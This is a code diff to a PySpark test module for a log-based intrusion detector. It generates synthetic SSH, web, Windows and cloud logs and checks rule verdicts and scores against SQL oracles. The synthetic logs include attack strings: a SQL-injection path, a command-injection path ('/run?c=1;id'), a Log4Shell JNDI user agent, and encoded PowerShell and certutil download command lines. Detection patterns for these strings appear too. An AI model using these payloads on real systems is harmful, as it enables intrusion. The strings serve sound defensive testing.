@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import DataFrame, SparkSession, Window
 from pyspark.sql import functions as F
 
 from sentrylake.config import Scenario
@@ -18,9 +18,13 @@ from sentrylake.streaming import alerts
 YEAR = 2024
 
 
-def events(spark: SparkSession, sf_dir: str) -> DataFrame:
+def events(spark: SparkSession, sf_dir: str, dense: bool = False) -> DataFrame:
+    """dense: a month in a quarter of an hour and fifteen users, so that declared time frames fill."""
     e = spark.read.parquet(f"{sf_dir}/events.parquet")
     u = F.col("user_id")
+    if dense:
+        u = u % 15
+        e = e.withColumn("ts", F.timestamp_seconds(F.floor(F.unix_timestamp(F.col("ts").cast("timestamp")) / 3000) + F.lit(1704067200 - 1704067200 // 3000)))
     ip = F.concat(F.lit("10.0."), F.floor(u / 256).cast("string"), F.lit("."), (u % 256).cast("string"))
     return e.select(
         F.col("event_id").alias("line_no"), F.col("ts"), u.alias("u"), F.col("event_type").alias("t"), F.regexp_extract("props", "[0-9]+", 0).cast("int").alias("k"), ip.alias("ip"), "value"
@@ -31,8 +35,8 @@ def _s(*parts) -> F.Column:
     return F.concat(*[p.cast("string") if isinstance(p, F.Column) else F.lit(p) for p in parts])
 
 
-def auth_lines(spark, sf_dir) -> DataFrame:
-    e = events(spark, sf_dir)
+def auth_lines(spark, sf_dir, dense=False) -> DataFrame:
+    e = events(spark, sf_dir, dense)
     t, k, u = F.col("t"), F.col("k"), F.col("u")
     head = _s(F.date_format("ts", "MMM dd HH:mm:ss"), " host", u % 3, " ")
     fail = F.when(k < 10, _s("sshd[7]: Invalid user guest", k, " from ", F.col("ip"), " port 22")).otherwise(_s("sshd[7]: Failed password for user", k % 5, " from ", F.col("ip"), " port 22 ssh2"))
@@ -46,27 +50,29 @@ def auth_lines(spark, sf_dir) -> DataFrame:
     return e.select("line_no", F.concat(head, body).alias("line"))
 
 
-def access_lines(spark, sf_dir) -> DataFrame:
-    e = events(spark, sf_dir).filter("t <> 'purchase'")
+def access_lines(spark, sf_dir, dense=False) -> DataFrame:
+    e = events(spark, sf_dir, dense).filter("t <> 'purchase'")
     t, k, u = F.col("t"), F.col("k"), F.col("u")
     lost = u % 10 == 3
     path = (
-        F.when(lost, _s("/scan", k)).when(t == "error", "/login").when((t == "view") & (k == 99) & (u % 25 == 0), "/x?id=1%20UNION%20SELECT%201").when(t == "view", _s("/img", k))
+        F.when(lost, _s("/scan", k)).when(t == "error", "/login").when((t == "view") & (k == 99) & (u % 25 == 0), "/x?id=1%20UNION%20SELECT%201")
+        .when((t == "view") & (k == 98), "/run?c=1;id").when(t == "view", _s("/img", k))
         .when((t == "signup") & (k < 5), "/admin").when(t == "signup", "/about").otherwise(_s("/page", k))
     )
     status = F.when(lost, "404").when((t == "error") & (k < 50), "401").when(t == "view", "404").when((t == "signup") & (k < 5), "302").otherwise("200")
     method = F.when((t == "error") & ~lost, "POST").otherwise("GET")
-    ua = F.when(u % 50 == 7, "nikto/2.1").otherwise("Mozilla/5.0")
+    ua = F.when(u % 50 == 7, "nikto/2.1").when((t == "view") & (k == 97) & (u % 25 == 2), "${jndi:ldap://x}").otherwise("Mozilla/5.0")
     line = _s(F.col("ip"), " - - [", F.date_format("ts", "dd/MMM/yyyy:HH:mm:ss"), " +0000] \"", method, " ", path, " HTTP/1.1\" ", status, " 12 \"-\" \"", ua, "\"")
     return e.select("line_no", line.alias("line"))
 
 
-def windows_lines(spark, sf_dir) -> DataFrame:
-    e = events(spark, sf_dir)
+def windows_lines(spark, sf_dir, dense=False) -> DataFrame:
+    e = events(spark, sf_dir, dense)
     t, k, u = F.col("t"), F.col("k"), F.col("u")
     ip = F.when(u % 10 == 0, "null").otherwise(_s('"', F.col("ip"), '"'))
     code = F.when(t == "error", "4625").when((t == "signup") & (k < 20), "4720").when(t == "click", "4624").when(t == "view", "4688").otherwise("1")
-    line = _s('{"timestamp": "', F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss"), '+00:00", "event_code": "', code, '", "host": "H', u % 5, '", "username": "user', k % 3, '", "source_ip": ', ip, ', "process_name": "p.exe", "new_account": "acct', F.col("line_no"), '"}')
+    command = F.when(k < 5, "powershell.exe -Enc aQBkAA==").when(k < 10, "certutil -urlcache -f http://x/y").otherwise("p.exe /s")
+    line = _s('{"timestamp": "', F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss"), '+00:00", "event_code": "', code, '", "host": "H', u % 5, '", "username": "user', k % 3, '", "source_ip": ', ip, ', "process_name": "p.exe", "command_line": "', command, '", "new_account": "acct', F.col("line_no"), '"}')
     return e.select("line_no", F.when(t == "purchase", "{bad").otherwise(line).alias("line"))
 
 
@@ -131,7 +137,7 @@ def auth_units_two_pass(spark, sf_dir):
 
 
 def ssh_brute_force(spark, sf_dir):
-    v = rules.rule_verdicts(_auth_units(spark, sf_dir))
+    v = rules.rule_verdicts(_auth_units(spark, sf_dir), sources=("linux_auth",))
     return v.filter("is_incident").select("unit_id", "technique", "confidence", "reason")
 
 
@@ -186,8 +192,8 @@ def detected_folder(spark, sf_dir):
     folder = scratch_path(spark, "logs")
     for name, lines in (("linux_auth.log", auth_lines), ("nginx_access.log", access_lines), ("windows_security.jsonl", windows_lines), ("cloud_audit.jsonl", cloud_lines)):
         lines(spark, sf_dir).select("line").write.text(f"{folder}/{name}")
-    units, verdicts = detect(spark, folder, year=YEAR)
-    v = verdicts.join(units.select(F.col("id").alias("unit_id"), "source", "action"), "unit_id")
+    units, _ = detect(spark, folder, year=YEAR)
+    v = rules.rule_verdicts(units, keep=("source", "action"))
     return v.groupBy("source", "action", "is_incident", "technique", "confidence").agg(F.count("*").alias("n"))
 
 
@@ -217,19 +223,19 @@ WEB_SQL = (
     SELECT event_id, sec, ip, u, k, t,
         CASE WHEN u % 10 <> 3 AND t = 'error' THEN 'POST' ELSE 'GET' END AS method,
         CASE WHEN u % 10 = 3 THEN '/scan' || k WHEN t = 'error' THEN '/login' WHEN t = 'view' AND k = 99 AND u % 25 = 0 THEN '/x?id=1%20UNION%20SELECT%201'
-            WHEN t = 'view' THEN '/img' || k WHEN t = 'signup' AND k < 5 THEN '/admin' WHEN t = 'signup' THEN '/about' ELSE '/page' || k END AS path,
+            WHEN t = 'view' AND k = 98 THEN '/run?c=1;id' WHEN t = 'view' THEN '/img' || k WHEN t = 'signup' AND k < 5 THEN '/admin' WHEN t = 'signup' THEN '/about' ELSE '/page' || k END AS path,
         CASE WHEN u % 10 = 3 THEN '404' WHEN t = 'error' AND k < 50 THEN '401' WHEN t = 'view' THEN '404' WHEN t = 'signup' AND k < 5 THEN '302' ELSE '200' END AS status,
-        CASE WHEN u % 50 = 7 THEN 'nikto/2.1' ELSE 'Mozilla/5.0' END AS ua
+        CASE WHEN u % 50 = 7 THEN 'nikto/2.1' WHEN t = 'view' AND k = 97 AND u % 25 = 2 THEN '${jndi:ldap://x}' ELSE 'Mozilla/5.0' END AS ua
     FROM e WHERE t <> 'purchase'
-), p AS (SELECT *, CASE WHEN path LIKE '%UNION%' THEN 'T1190' WHEN ua = 'nikto/2.1' THEN 'T1595.002' END AS payload FROM r),
+), p AS (SELECT *, CASE WHEN path LIKE '%UNION%' OR ua LIKE '%jndi%' THEN 'T1190' WHEN ua = 'nikto/2.1' THEN 'T1595.002' END AS payload FROM r),
 w AS (SELECT ip, bool_or(payload IS NOT NULL) AS hit, count(*) FILTER (method = 'POST') AS posts, count(*) AS n, bool_and(status = '404') AS lost FROM p GROUP BY ip),
 x AS (SELECT p.*, CASE WHEN hit THEN 'points' WHEN posts >= 5 THEN 'login' WHEN lost AND n >= 10 THEN 'scan' ELSE 'points' END AS route FROM p JOIN w USING (ip)),
 lb AS (SELECT ip, min(sec) AS sec, count(*) AS n, arg_min(status, (sec, event_id)) AS first, string_agg(status, ',' ORDER BY sec, event_id) AS seq FROM x WHERE route = 'login' AND method = 'POST' GROUP BY ip),
 sb AS (SELECT ip, min(sec) AS sec, count(*) AS n, count(DISTINCT path) AS paths FROM x WHERE route = 'scan' GROUP BY ip),
 units AS (
-    SELECT sec, ip AS actor, 'http_post' AS action, '/login' AS target, first AS status, n, seq FROM lb
-    UNION ALL SELECT sec, ip, 'http_get', paths || ' paths', '404', n, NULL FROM sb
-    UNION ALL SELECT sec, ip, 'http_' || lower(method), path, status, NULL, NULL FROM x WHERE route = 'points' OR (route = 'login' AND method <> 'POST')
+    SELECT sec, ip AS actor, 'http_post' AS action, '/login' AS target, first AS status, n, seq, NULL AS ua FROM lb
+    UNION ALL SELECT sec, ip, 'http_get', paths || ' paths', '404', n, NULL, NULL FROM sb
+    UNION ALL SELECT sec, ip, 'http_' || lower(method), path, status, NULL, NULL, ua FROM x WHERE route = 'points' OR (route = 'login' AND method <> 'POST')
 )
 """
 )
@@ -241,11 +247,11 @@ def _web_units(spark, sf_dir):
 
 def web_units(spark, sf_dir):
     r = F.col("raw")
-    return _web_units(spark, sf_dir).select(_sec(), "actor", "action", "target", "status", r["count"].alias("n"), F.array_join(r["status_sequence"], ",").alias("seq"))
+    return _web_units(spark, sf_dir).select(_sec(), "actor", "action", "target", "status", r["count"].alias("n"), F.array_join(T.status_sequence(r), ",").alias("seq"))
 
 
 def web_rules(spark, sf_dir):
-    v = rules.rule_verdicts(_web_units(spark, sf_dir))
+    v = rules.rule_verdicts(_web_units(spark, sf_dir), sources=("nginx_access",))
     return v.groupBy("is_incident", "technique", "confidence").agg(F.count("*").alias("n"))
 
 
@@ -260,10 +266,10 @@ WINDOWS_SQL = (
     CASE WHEN t = 'error' THEN '4625' WHEN t = 'signup' AND k < 20 THEN '4720' WHEN t = 'click' THEN '4624' WHEN t = 'view' THEN '4688' END AS code FROM e WHERE t <> 'purchase'),
 g AS (SELECT host, src, count(*) AS n, arg_min(sec, event_id) AS sec, list_sort(list_distinct(list(who))) AS users FROM r WHERE code = '4625' GROUP BY host, src),
 units AS (
-    SELECT sec, src AS actor, 'logon_failure' AS action, array_to_string(users, ', ') AS target, n, host, '4625' AS code, NULL AS event_id FROM g WHERE n >= 5
-    UNION ALL SELECT r.sec, coalesce(r.src, r.who), 'logon_failure', r.host, NULL, r.host, r.code, r.event_id FROM r JOIN g ON r.host = g.host AND r.src IS NOT DISTINCT FROM g.src WHERE code = '4625' AND g.n < 5
+    SELECT sec, src AS actor, 'logon_failure' AS action, array_to_string(users, ', ') AS target, n, host, '4625' AS code, NULL AS event_id, NULL AS k FROM g WHERE n >= 5
+    UNION ALL SELECT r.sec, coalesce(r.src, r.who), 'logon_failure', r.host, NULL, r.host, r.code, r.event_id, r.k FROM r JOIN g ON r.host = g.host AND r.src IS NOT DISTINCT FROM g.src WHERE code = '4625' AND g.n < 5
     UNION ALL SELECT sec, coalesce(src, who), CASE code WHEN '4624' THEN 'logon_success' WHEN '4688' THEN 'process_creation' ELSE 'user_account_created' END,
-        CASE code WHEN '4624' THEN host WHEN '4688' THEN 'p.exe' ELSE 'acct' || event_id END, NULL, host, code, event_id FROM r WHERE code IN ('4624', '4688', '4720')
+        CASE code WHEN '4624' THEN host WHEN '4688' THEN 'p.exe' ELSE 'acct' || event_id END, NULL, host, code, event_id, k FROM r WHERE code IN ('4624', '4688', '4720')
 )
 """
 )
@@ -274,20 +280,14 @@ def windows_units(spark, sf_dir):
 
 
 def accounts_after_failed_logons(spark, sf_dir):
-    u = _windows_units(spark, sf_dir)
-    v = rules.rule_verdicts(u).filter("technique = 'T1136.001'")
-    return v.join(u.select(F.col("id").alias("unit_id"), "target", _sec()), "unit_id").select("target", "sec", "technique", "confidence", "reason")
+    v = rules.rule_verdicts(_windows_units(spark, sf_dir), sources=("windows_security",), keep=("target", "timestamp"))
+    return v.filter("technique = 'T1136.001'").select("target", _sec(), "technique", "confidence", "reason")
 
 
 def _cloud_records(spark, sf_dir):
     return json_records(cloud_lines(spark, sf_dir))
 
 
-def _cloud_failures(records):
-    e = F.col("event")
-    return records.filter(bursts.console_failure(e)).select(T.iso_time(e["timestamp"]).alias("at"), e["username"].alias("username"), e["source_ip"].alias("source_ip"))
-
-
 CLOUD_SQL = (
     "WITH "
     + E_SQL
@@ -303,21 +303,32 @@ def cloud_units(spark, sf_dir):
     return u.select(_sec(), "actor", "action", "target", "status", F.col("raw.count").alias("n"))
 
 
+def _cloud_verdicts(spark, sf_dir, *keep):
+    u = numbering.number_units(bursts.cloud_units(_cloud_records(spark, sf_dir)))
+    return rules.rule_verdicts(u, sources=("cloud_audit",), keep=keep)
+
+
 def cloud_rules(spark, sf_dir):
-    records = _cloud_records(spark, sf_dir)
-    u = numbering.number_units(bursts.cloud_units(records))
-    v = rules.rule_verdicts(u, failures=correlate.console_failures(u, records))
-    return v.join(u.select(F.col("id").alias("unit_id"), "actor", _sec()), "unit_id").filter("is_incident").select("actor", "sec", "technique", "confidence")
+    return _cloud_verdicts(spark, sf_dir, "actor", "timestamp").filter("is_incident").select("actor", _sec(), "technique", "confidence")
 
 
 def cloud_failures_by_user(spark, sf_dir):
-    u = bursts.cloud_failure_unit(_cloud_records(spark, sf_dir), keys=("username",))
-    return u.select("actor", "target", F.col("raw.count").alias("n"), F.size("raw.events").alias("nested"), _sec())
+    failures = bursts.cloud_failures(_cloud_records(spark, sf_dir))
+    u = numbering.number_units(bursts.cloud_failure_unit(failures, keys=("username",)))
+    nested = bursts.cloud_members(u, failures, keys=("username",)).groupBy(F.col("unit_id").alias("id")).agg(F.max("place").cast("int").alias("nested"))
+    return u.join(nested, "id").select("actor", "target", F.col("raw.count").alias("n"), "nested", _sec())
+
+
+def cloud_unit_members(spark, sf_dir):
+    """Every record of the one unit of failed console logins."""
+    records = _cloud_records(spark, sf_dir)
+    u = numbering.number_units(bursts.cloud_units(records))
+    return bursts.cloud_members(u, bursts.cloud_failures(records)).select("unit_id", "place", "line_no", _sec("at"), "username", "source_ip")
 
 
 def changes_by_failed_users(spark, sf_dir):
     records = _cloud_records(spark, sf_dir)
-    return correlate.users_with_failures(records.filter("event.action = 'iam_policy_changed'"), _cloud_failures(records)).select("line_no", "event.username")
+    return correlate.users_with_failures(records.filter("event.action = 'iam_policy_changed'"), bursts.cloud_failures(records)).select("line_no", "event.username")
 
 
 # runs against labels
@@ -360,27 +371,36 @@ def _judged(spark, sf_dir):
 
 
 def run_scores(spark, sf_dir):
-    s = scoring.scores(_judged(spark, sf_dir))
+    s = scoring.scored(_labels(spark, sf_dir), _runs(spark, sf_dir))
     rounded = {c: F.round(c, 6) for c in ("precision", "recall", "f1", "fp_per_1000", "technique_accuracy")}
     return s.withColumns(rounded)
 
 
+def run_scores_by_source(spark, sf_dir):
+    """Counts of each run and source, over a row for each label and run."""
+    return scoring.scores(_judged(spark, sf_dir), "source").select("run_key", "source", "n_units", "n_missing", "tp", "fp", "fn", "tn")
+
+
+def units_without_prediction(spark, sf_dir):
+    return scoring.missing_predictions(_labels(spark, sf_dir), _runs(spark, sf_dir), "hybrid")
+
+
 def run_summary(spark, sf_dir):
-    return scoring.summary(scoring.scores(_judged(spark, sf_dir))).select("run_key", "place", F.round("f1", 3).alias("f1"))
+    return scoring.summary(scoring.scored(_labels(spark, sf_dir), _runs(spark, sf_dir))).select("run_key", "place", F.round("f1", 3).alias("f1"))
 
 
 def f1_matrix(spark, sf_dir):
-    s = scoring.scores(_judged(spark, sf_dir)).withColumn("f1", F.round("f1", 6))
+    s = scoring.scored(_labels(spark, sf_dir), _runs(spark, sf_dir)).withColumn("f1", F.round("f1", 6))
     models = spark.createDataFrame([("llm_v1", "llm", "v1"), ("llm_v3", "llm", "v3"), ("zz", "other", "v3")], "run_key string, model string, version string")
     return scoring.f1_matrix(s, models, ["v1", "v3"])
 
 
 def error_breakdown(spark, sf_dir):
-    return scoring.error_counts(_judged(spark, sf_dir))
+    return scoring.errors(_labels(spark, sf_dir), _runs(spark, sf_dir))
 
 
 def top_errors(spark, sf_dir):
-    return scoring.top_errors(scoring.error_counts(_judged(spark, sf_dir)))
+    return scoring.top_errors(scoring.errors(_labels(spark, sf_dir), _runs(spark, sf_dir)))
 
 
 def _run(spark, sf_dir, name):
@@ -509,6 +529,43 @@ def ssh_alerts(spark, sf_dir):
     return a.select("host", F.unix_timestamp("window_start").alias("t0"), "n", F.unix_timestamp("first_ts").alias("first"))
 
 
+def declared_alerts(spark, sf_dir):
+    """All declared rules in their own time frames, in one pass over one table of events."""
+    auth = parse.auth_records(auth_lines(spark, sf_dir, dense=True), YEAR)
+    seen = alerts.counted_events(auth, parse.access_records(access_lines(spark, sf_dir, dense=True)), json_records(windows_lines(spark, sf_dir, dense=True)))
+    a = alerts.declared_alerts(seen)
+    return a.select("rule", "key", F.unix_timestamp("window_start").alias("t0"), F.unix_timestamp("window_end").alias("t1"), "n", F.unix_timestamp("first_ts").alias("first"))
+
+
+def web_reasons(spark, sf_dir):
+    v = rules.rule_verdicts(_web_units(spark, sf_dir), sources=("nginx_access",))
+    return v.filter("is_incident").groupBy("technique", "confidence", "reason").agg(F.count("*").alias("n"))
+
+
+def cloud_reasons(spark, sf_dir):
+    return _cloud_verdicts(spark, sf_dir).groupBy("technique", "confidence", "reason").agg(F.count("*").alias("n"))
+
+
+def all_labels(spark, sf_dir):
+    """Ground truth of all builders together, numbered."""
+    access = parse.access_records(access_lines(spark, sf_dir))
+    auth, windows = parse.auth_records(auth_lines(spark, sf_dir), YEAR), json_records(windows_lines(spark, sf_dir))
+    rows = labelling.assembled(
+        labelling.label_auth(auth, scenario=KNOWN), labelling.label_access(access, scenario=KNOWN), labelling.label_login_posts(access, scenario=KNOWN), labelling.label_windows(windows, scenario=KNOWN),
+        labelling.label_cloud(_cloud_records(spark, sf_dir)),
+    )
+    number = F.regexp_extract("unit_id", "[0-9]+", 0).cast("long")
+    return rows.groupBy(F.col("event.source").alias("source"), F.col("event.action").alias("action"), "label", "technique").agg(F.count("*").alias("n"), F.count_distinct("unit_id").alias("ids"), F.max(F.max(number)).over(Window.partitionBy("event.source")).alias("last"))
+
+
+def second_detector(spark, sf_dir):
+    """The fixed second detector over units of web, Windows and cloud logs."""
+    units = numbering.number_units(
+        bursts.access_units(parse.access_records(access_lines(spark, sf_dir))).unionByName(bursts.windows_units(json_records(windows_lines(spark, sf_dir)))).unionByName(bursts.cloud_units(_cloud_records(spark, sf_dir)))
+    )
+    return heuristic.heuristic_verdicts(units).groupBy("is_incident", "technique", "confidence", F.col("unit_id").substr(1, 3).alias("kind")).agg(F.count("*").alias("n"))
+
+
 def accounts_after_alerts(spark, sf_dir):
     r = json_records(windows_lines(spark, sf_dir)).select(T.iso_time(F.col("event.timestamp")).alias("ts"), F.col("event.host").alias("host"), F.col("event.event_code").alias("code"), F.col("event.new_account").alias("account"))
     a = alerts.burst_alerts(r.filter("code = '4625'"), "host", "6 hours", 3)
@@ -520,18 +577,18 @@ QUERIES = {
     f.__name__: f
     for f in (
         auth_records, ssh_bursts, auth_units, auth_units_two_pass, ssh_brute_force, auth_heuristic, auth_labels, access_records, web_units, web_rules, windows_units,
-        accounts_after_failed_logons, cloud_units, cloud_rules, cloud_failures_by_user, changes_by_failed_users, run_scores, run_summary, f1_matrix, error_breakdown,
+        accounts_after_failed_logons, cloud_units, cloud_rules, cloud_failures_by_user, cloud_unit_members, changes_by_failed_users, run_scores, run_summary, f1_matrix, error_breakdown,
         top_errors, disagreements, disagreement_examples, hybrid_run, complete_run, run_drift, unit_counts, parsed_responses, free_text_alarms, prompt_keys,
         responses_matched, url_payloads, clipped_texts, ssh_alerts, accounts_after_alerts,
         access_labels, login_labels, windows_labels, cloud_labels, label_blind_verdicts, detected_folder, left_to_judge, first_ids, burst_evidence, strict_labels,
-        stored_runs, report_tables, run_names,
+        stored_runs, report_tables, run_names, declared_alerts, web_reasons, cloud_reasons, all_labels, second_detector, run_scores_by_source, units_without_prediction,
     )
 }
 
 LABELLED_SQL = ", lab AS (SELECT *, CASE WHEN action = 'ssh_failed_password' AND actor IN ('10.0.0.1', '10.0.0.2') THEN 'T1110.001' WHEN action = 'ssh_accepted_password' AND actor = '10.0.0.1' THEN 'T1078' END AS technique FROM units) "
 WEB_RULED_SQL = """, v AS (
-            SELECT CASE WHEN target LIKE '%UNION%' THEN 'T1190' WHEN action = 'http_post' AND n > 20 AND contains(seq, '401') THEN 'T1110'
-                WHEN u.actor IN (SELECT ip FROM p WHERE ua = 'nikto/2.1') THEN 'T1595.002' WHEN status = '404' AND n > 30 THEN 'S' WHEN target = '/admin' THEN 'T1083' END AS c, n, action FROM units u)
+            SELECT CASE WHEN target LIKE '%UNION%' OR target LIKE '%;id' OR ua LIKE '%jndi%' THEN 'T1190' WHEN action = 'http_post' AND n > 20 AND contains(seq, '401') THEN 'T1110'
+                WHEN u.actor IN (SELECT ip FROM p WHERE ua = 'nikto/2.1') THEN 'T1595.002' WHEN status = '404' AND n > 30 THEN 'S' WHEN target = '/admin' THEN 'T1083' END AS c, n, action, actor, target, ua FROM units u)
         """
 CONF = "CASE WHEN n >= 100 THEN {} WHEN n >= 30 THEN {} ELSE {} END"
 ORACLES = {
@@ -572,7 +629,7 @@ ORACLES = {
         SELECT action, status, CASE WHEN technique IS NULL THEN 'benign' ELSE 'incident' END AS label, technique, count(*) AS n FROM z GROUP BY ALL""",
     "windows_labels": WINDOWS_SQL + """, z AS (SELECT 'logon_failure' AS action, 'T1110.001' AS technique FROM r WHERE code = '4625' AND host = 'H1' AND src = '10.0.0.1' GROUP BY host
             UNION ALL SELECT 'logon_failure', NULL FROM r WHERE code = '4625' AND NOT (host = 'H1' AND coalesce(src, '') = '10.0.0.1')
-            UNION ALL SELECT CASE code WHEN '4624' THEN 'logon_success' WHEN '4688' THEN 'process_creation' ELSE 'user_account_created' END, CASE WHEN code = '4720' THEN 'T1136.001' END FROM r WHERE code IN ('4624', '4688', '4720'))
+            UNION ALL SELECT CASE code WHEN '4624' THEN 'logon_success' WHEN '4688' THEN 'process_creation' ELSE 'user_account_created' END, CASE WHEN code = '4720' THEN 'T1136.001' WHEN code = '4688' AND k < 5 THEN 'T1059.001' WHEN code = '4688' AND k < 10 THEN 'T1105' END FROM r WHERE code IN ('4624', '4688', '4720'))
         SELECT action, CASE WHEN technique IS NULL THEN 'benign' ELSE 'incident' END AS label, technique, count(*) AS n FROM z GROUP BY ALL""",
     "cloud_labels": CLOUD_SQL + """, z AS (SELECT 'console_login' AS action, NULL AS technique FROM r WHERE t = 'error' HAVING count(*) > 0
             UNION ALL SELECT action, CASE WHEN action = 'security_group_rule_added' AND cidr = '0.0.0.0/0' AND port IN (22, 3306) THEN 'T1562.007' WHEN action = 'iam_policy_changed' AND who IN (SELECT who FROM r WHERE t = 'error') THEN 'T1098' END FROM r WHERE t <> 'error')
@@ -593,7 +650,7 @@ ORACLES = {
     "run_names": """WITH n AS (SELECT doc_id, regexp_replace(regexp_replace(source, '[^A-Za-z0-9]+', '_', 'g'), '^_+|_+$', '', 'g') || '__' || lang || '_7b_' || (doc_id % 3) AS mk FROM documents)
         SELECT doc_id, mk AS model_key, mk || CASE WHEN doc_id % 2 = 0 THEN '__v1' ELSE '__v3' END AS run_key FROM n""",
     "access_records": WEB_SQL + "SELECT event_id AS line_no, ip, sec, method, path, status, ua, payload, path = '/login' AS login FROM p",
-    "web_units": WEB_SQL + "SELECT * FROM units",
+    "web_units": WEB_SQL + "SELECT * EXCLUDE (ua) FROM units",
     "web_rules": WEB_SQL + WEB_RULED_SQL + """SELECT c IS NOT NULL AS is_incident, CASE WHEN c = 'S' THEN 'T1595.002' ELSE c END AS technique, CAST(CASE WHEN c = 'T1190' THEN 0.95 WHEN c = 'T1110' THEN """ + CONF.format(0.97, 0.9, 0.8) + """
             WHEN c = 'T1595.002' THEN 0.9 WHEN c = 'S' THEN """ + CONF.format(0.95, 0.85, 0.7) + " WHEN c = 'T1083' THEN 0.75 ELSE 0.5 END AS DOUBLE) AS confidence, count(*) AS n FROM v GROUP BY 1, 2, 3",
     "windows_units": WINDOWS_SQL + "SELECT sec, actor, action, target, n FROM units",
@@ -606,9 +663,32 @@ ORACLES = {
     "cloud_rules": CLOUD_SQL + """SELECT ip AS actor, sec, 'T1562.007' AS technique, CAST(CASE WHEN port = 3306 THEN 0.95 ELSE 0.9 END AS DOUBLE) AS confidence FROM r WHERE t = 'click' AND cidr = '0.0.0.0/0' AND port IN (22, 3306)
         UNION ALL SELECT ip, sec, 'T1098', CAST(0.8 AS DOUBLE) FROM r c WHERE action = 'iam_policy_changed' AND EXISTS (SELECT 1 FROM r f WHERE f.t = 'error' AND f.sec <= c.sec AND (f.who = c.who OR f.ip = c.ip))""",
     "cloud_failures_by_user": CLOUD_SQL + "SELECT arg_min(ip, event_id) AS actor, who AS target, count(*) AS n, CAST(count(*) AS INTEGER) AS nested, arg_min(sec, event_id) AS sec FROM r WHERE t = 'error' GROUP BY who",
+    "cloud_unit_members": CLOUD_SQL + """, u AS (SELECT NULL AS line_no, arg_min(sec, event_id) AS sec, 'console_login' AS action, arg_min(who, event_id) AS target, min(event_id) AS o, TRUE AS own FROM r WHERE t = 'error' HAVING count(*) > 0
+            UNION ALL SELECT event_id, sec, action, CASE action WHEN 'security_group_rule_added' THEN 'port ' || port || ' <- ' || cidr WHEN 'iam_policy_changed' THEN 'svc' || k ELSE who END, event_id, FALSE FROM r WHERE t <> 'error'),
+        x AS (SELECT own, row_number() OVER (ORDER BY sec, action, target, o) AS rn FROM u), i AS (SELECT 'cld-' || CASE WHEN rn < 10000 THEN lpad(CAST(rn AS VARCHAR), 4, '0') ELSE CAST(rn AS VARCHAR) END AS id FROM x WHERE own)
+        SELECT (SELECT id FROM i) AS unit_id, row_number() OVER (ORDER BY event_id) AS place, event_id AS line_no, sec, who AS username, ip AS source_ip FROM r WHERE t = 'error'""",
     "changes_by_failed_users": CLOUD_SQL + "SELECT event_id AS line_no, who AS username FROM r c WHERE action = 'iam_policy_changed' AND who IN (SELECT who FROM r WHERE t = 'error')",
     "run_scores": RUNS_SQL + """SELECT run_key, n_units, n_incidents, n_benign, n_predicted, n_missing, tp, fp, fn, tn, round(p, 6) AS precision, round(r, 6) AS recall, round(f1, 6) AS f1,
         round(fp / n_units * 1000, 6) AS fp_per_1000, round(good / nullif(known, 0), 6) AS technique_accuracy FROM m""",
+    "run_scores_by_source": RUNS_SQL + """SELECT run_key, source, count(*) AS n_units, count(*) FILTER (missing) AS n_missing, count(*) FILTER (truth AND said) AS tp, count(*) FILTER (NOT truth AND said) AS fp,
+        count(*) FILTER (truth AND NOT said) AS fn, count(*) FILTER (NOT truth AND NOT said) AS tn FROM j GROUP BY ALL""",
+    "units_without_prediction": RUNS_SQL + "SELECT unit_id FROM j WHERE missing AND run_key = 'hybrid'",
+    "declared_alerts": """WITH e AS (SELECT 1704067200 - 1704067200 // 3000 + CAST(epoch(date_trunc('second', ts)) AS BIGINT) // 3000 AS sec, user_id % 15 AS u, event_type AS t, CAST(regexp_extract(props, '[0-9]+') AS INTEGER) AS k FROM events),
+        x AS (SELECT 'ssh' AS rule, '10.0.0.' || u AS key, sec, 600 AS w, 10 AS m FROM e WHERE t = 'error' UNION ALL SELECT 'windows', 'H' || (u % 5), sec, 1800, 3 FROM e WHERE t = 'error'
+            UNION ALL SELECT 'web_login', '10.0.0.' || u, sec, 300, 20 FROM e WHERE t = 'error' AND k < 50 AND u % 10 <> 3 UNION ALL SELECT 'not_found', '10.0.0.' || u, sec, 300, 30 FROM e WHERE t = 'view' OR (u % 10 = 3 AND t <> 'purchase'))
+        SELECT rule, key, CAST(sec // w * w AS BIGINT) AS t0, CAST(sec // w * w + w AS BIGINT) AS t1, count(*) AS n, min(sec) AS first FROM x GROUP BY rule, key, w, m, sec // w HAVING count(*) > m""",
+    "web_reasons": WEB_SQL + WEB_RULED_SQL + """SELECT CASE WHEN c = 'S' THEN 'T1595.002' ELSE c END AS technique, CAST(CASE WHEN c = 'T1190' THEN 0.95 WHEN c = 'T1110' THEN """ + CONF.format(0.97, 0.9, 0.8) + """
+            WHEN c = 'T1595.002' THEN 0.9 WHEN c = 'S' THEN """ + CONF.format(0.95, 0.85, 0.7) + """ ELSE 0.75 END AS DOUBLE) AS confidence,
+            CASE c WHEN 'T1190' THEN 'Web Exploit Attempt: ' || CASE WHEN target LIKE '%UNION%' THEN 'payload signature ''union select'' in path' WHEN ua LIKE '%jndi%' THEN 'Log4Shell/JNDI marker' ELSE 'OS command-injection pattern in path' END || ' from ' || actor || ' against ' || target || '.'
+                WHEN 'T1110' THEN 'Web Login Brute Force: ' || n || ' failed web logins from ' || actor || ' to ' || target || ' (> 20 in window).' WHEN 'T1595.002' THEN 'Web Scanning: known scanner User-Agent ''nikto'' from ' || actor || '.'
+                WHEN 'S' THEN 'Web Scanning: ' || n || ' HTTP 404 responses from ' || actor || ' (> 30 in window), consistent with directory brute force.'
+                ELSE 'Sensitive Path Access: request to ''/admin'' returned a found status from ' || actor || ', consistent with file/directory discovery.' END AS reason, count(*) AS n FROM v WHERE c IS NOT NULL GROUP BY 1, 2, 3""",
+    "cloud_reasons": CLOUD_SQL + """, m AS (SELECT CASE WHEN t = 'click' AND cidr = '0.0.0.0/0' AND port IN (22, 3306) THEN 'T1562.007'
+                WHEN action = 'iam_policy_changed' AND EXISTS (SELECT 1 FROM r f WHERE f.t = 'error' AND f.sec <= c.sec AND (f.who = c.who OR f.ip = c.ip)) THEN 'T1098' END AS technique, port, who FROM r c WHERE t <> 'error'
+            UNION ALL SELECT NULL, NULL, NULL FROM r WHERE t = 'error' HAVING count(*) > 0)
+        SELECT technique, CAST(CASE WHEN technique = 'T1098' THEN 0.8 WHEN technique IS NULL THEN 0.5 WHEN port = 3306 THEN 0.95 ELSE 0.9 END AS DOUBLE) AS confidence,
